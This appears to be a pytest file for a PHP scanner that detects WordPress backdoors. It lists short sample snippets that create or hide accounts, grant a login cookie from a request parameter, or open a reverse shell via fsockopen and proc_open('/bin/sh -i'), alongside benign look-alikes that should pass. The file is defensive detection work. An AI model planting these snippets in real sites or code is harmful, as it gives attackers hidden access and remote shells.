"""Ways back in that no data of a visitor shows. The samples are ours, and inert."""

from __future__ import annotations

import pytest

from pratique.content.php.back_door import back_doors
from pratique.content.php.program import Program
from pratique.content.php.syntax import parse


def marks(source: str) -> list[str]:
    return [one.mark for one in back_doors(Program(parse(b"<?php " + source.encode())))]


@pytest.mark.parametrize(
    ("source", "mark"),
    [
        ("wp_create_user('a', 'b1c2', 'a@b.example');", "php-grants-account"),
        (
            "$u = wp_insert_user(['user_login' => 'a', 'user_pass' => 'b', 'role' => 'x']);",
            "php-grants-account",
        ),
        (
            "$d = array('user_login' => 'a', 'user_pass' => 'b'); wp_insert_user($d);",
            "php-grants-account",
        ),
        ("if (isset($_GET['x'])) { wp_set_auth_cookie(1); }", "php-grants-account"),
        ("wp_set_auth_cookie($_GET['id']);", "php-grants-account"),
        (
            "add_action('pre_user_query', 'f'); $q->query_where .= \" AND user_login != 'x'\";",
            "php-hides-account",
        ),
        (
            "$s = fsockopen($h, 443); proc_open('/bin/sh -i', [$s, $s, $s], $p);",
            "php-shell-calls-out",
        ),
        ("$s = socket_connect($k, $h, 1); $p = popen('cmd.exe', 'w');", "php-shell-calls-out"),
    ],
)
def test_points_at(source, mark):
    assert marks(source) == [mark]


@pytest.mark.parametrize(
    "source",
    [
        "wp_create_user($name, $password, $mail);",
        "wp_insert_user(['user_login' => $name, 'user_pass' => wp_generate_password()]);",
        "wp_insert_user($user);",
        "wp_set_auth_cookie($user->ID, $remember);",
        "add_action('pre_user_query', 'only_authors');",
        "$s = fsockopen('mail.example', 25); fwrite($s, 'EHLO x');",
        "exec('/bin/sh script.sh');",
        "$s = fsockopen($h, 25); exec('/usr/bin/convert a b');",
    ],
)
def test_leaves_alone(source):
    assert marks(source) == []
